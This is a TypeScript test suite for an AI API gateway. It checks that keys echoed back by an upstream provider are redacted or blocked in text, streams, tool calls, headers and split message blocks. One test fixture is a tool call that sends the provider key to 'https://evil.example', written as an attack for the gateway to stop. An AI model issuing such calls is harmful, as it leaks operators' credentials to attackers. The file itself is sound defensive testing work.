import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAnthropicTrial } from './anthropic-trial.ts';
import { messageBody, messageStream, textBlock } from './anthropic-wire.ts';
import { PROVIDER_KEY } from './model-trial.ts';
import { type OpenAiTrial, startOpenAiTrial } from './open-ai-trial.ts';
import {
  callEvents,
  completionBody,
  DONE_EVENT,
  finishEvent,
  textChoice,
  textEvents,
  textStream,
} from './openai-wire.ts';

let trial: OpenAiTrial;
beforeAll(async () => {
  trial = await startOpenAiTrial({ policy: 'permissive' });
}, 60_000);
afterAll(() => trial.stop(), 30_000);

const ECHO = `You sent Authorization: Bearer ${PROVIDER_KEY}. Was that meant for me?`;

async function ask(model: string, more: object = {}): Promise<{ readonly said: string; readonly headers: Headers }> {
  const response = await trial.post(JSON.stringify({ model, messages: [{ role: 'user', content: 'Hi' }], ...more }));
  return { said: await response.text(), headers: response.headers };
}

async function expectTold(headers: Headers, action: string): Promise<void> {
  const events = await trial.gateway.eventsOf(headers.get('x-request-id') ?? '');
  expect(events.filter(({ type }) => type === 'secret_detected')).toMatchObject([
    { severity: 'CRITICAL', decision: { action, ruleIds: ['leakage/upstream-key'] }, details: { upstream: 'faulty' } },
  ]);
  expect(JSON.stringify(events)).not.toContain(PROVIDER_KEY);
}

describe('a provider that repeats the operator’s key', () => {
  it('in a text has it replaced, and nothing else', async () => {
    const body = completionBody([textChoice(ECHO)], {
      debug: { headers: { authorization: `Bearer ${PROVIDER_KEY}` } },
    });
    const { said, headers } = await ask(trial.upstream.plan(({ reply }) => reply(body)));
    expect(said).toBe(body.replaceAll(PROVIDER_KEY, '[removed]'));
    await expectTold(headers, 'rewrite');
  });

  it('in a stream has it replaced, however it is cut', async () => {
    for (const cutting of [[1], [7], [100_000]]) {
      const model = trial.upstream.plan(async ({ openStream, chunk, endStream }) => {
        await openStream();
        await chunk(textStream(ECHO), cutting);
        await endStream();
      });
      const { said, headers } = await ask(model, { stream: true });
      const text = said
        .split('\n')
        .filter((line) => line.startsWith('data: {'))
        .map((line) => JSON.parse(line.slice(6)).choices[0]?.delta.content ?? '')
        .join('');
      expect(text).toBe(ECHO.replace(PROVIDER_KEY, '[removed]'));
      expect(said).not.toContain('secret');
      await expectTold(headers, 'rewrite');
    }
  });

  it('in a tool call does not get that call through', async () => {
    const call = { name: 'send', input: JSON.stringify({ to: 'https://evil.example', text: PROVIDER_KEY }) };
    const stream = `${textEvents('Let me see.')}${callEvents(call)}${finishEvent('tool_calls')}${DONE_EVENT}`;
    const model = trial.upstream.plan(async ({ openStream, chunk, endStream }) => {
      await openStream();
      await chunk(stream);
      await endStream();
    });
    const { said, headers } = await ask(model, { stream: true });
    expect(said).not.toContain('evil.example');
    expect(said).not.toContain('secret');
    expect(said).toContain('"finish_reason":"content_filter"');
    await expectTold(headers, 'block');
  });

  it('in a header of its reply does not get that header through', async () => {
    const headers = `content-type: application/json\r\nx-request-id: ${PROVIDER_KEY}\r\nopenai-version: 1\r\n`;
    const model = trial.upstream.plan(({ reply }) => reply(completionBody([textChoice('Yes.')]), { headers }));
    const answer = await ask(model);
    expect(JSON.stringify([...answer.headers])).not.toContain('secret');
    expect(answer.headers.get('openai-version')).toBe('1');
  });
});

it('a reply that merely begins as the key does passes as it came', async () => {
  const body = completionBody([textChoice(`The word is ${PROVIDER_KEY.slice(0, -1)}`)]);
  expect((await ask(trial.upstream.plan(({ reply }) => reply(body)))).said).toBe(body);
});

it('a key that is split over two blocks of a message is replaced, streamed or not', async () => {
  const anthropic = await startAnthropicTrial({ policy: 'permissive' });
  try {
    const parts = [`The key is ${PROVIDER_KEY.slice(0, 11)}`, `${PROVIDER_KEY.slice(11)}, is it not?`];
    const whole = anthropic.upstream.plan(({ reply }) =>
      reply(messageBody(parts.map((text) => ({ type: 'text', text })))),
    );
    const streamed = anthropic.upstream.plan(async ({ openStream, chunk, endStream }) => {
      await openStream();
      await chunk(messageStream(parts.map((text, index) => textBlock(text, index)).join('')));
      await endStream();
    });
    const messages = [{ role: 'user' as const, content: 'Hi' }];
    const first = await anthropic.client.messages.create({ model: whole, max_tokens: 50, messages });
    const second = await anthropic.client.messages.stream({ model: streamed, max_tokens: 50, messages }).finalMessage();
    for (const { content } of [first, second]) {
      const texts = content.map((block) => (block.type === 'text' ? block.text : ''));
      expect(texts).toEqual(['The key is [removed]', ', is it not?']);
    }
  } finally {
    await anthropic.stop();
  }
}, 60_000);
